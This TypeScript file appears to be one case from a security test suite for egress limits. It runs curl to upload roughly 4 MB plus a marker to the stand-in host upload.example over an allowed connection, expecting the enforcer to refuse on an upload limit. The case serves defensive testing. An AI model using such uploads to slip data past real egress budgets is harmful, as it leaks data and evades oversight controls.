/** Row T9: an allowed connection as a way out for more than its rule allows. */
import type { Attack } from "../case.ts";

export const uploadCases: Attack[] = [
  {
    kind: "attack",
    row: "T9",
    variant: "more than a rule's budget over an allowed connection",
    run: async (job, marker) => {
      const rate = ["--limit-rate", "1M", "--max-time", "15"];
      const args = ["-sS", `-${job.v}`, ...rate, "-T", "-", "https://upload.example/up"];
      // What counts is at the end: far behind the budget, and as far as a poll may be late.
      await job.exec("curl", args, { input: `${"x".repeat(4_000_000)}${marker}`, timeoutMs: 20_000 });
    },
    refusal: {
      kind: "connection",
      reason: "upload_limit",
      rule: { name: "small uploads", tier: 2 },
      destination: { name: "upload.example", protocol: "tls" },
    },
  },
];
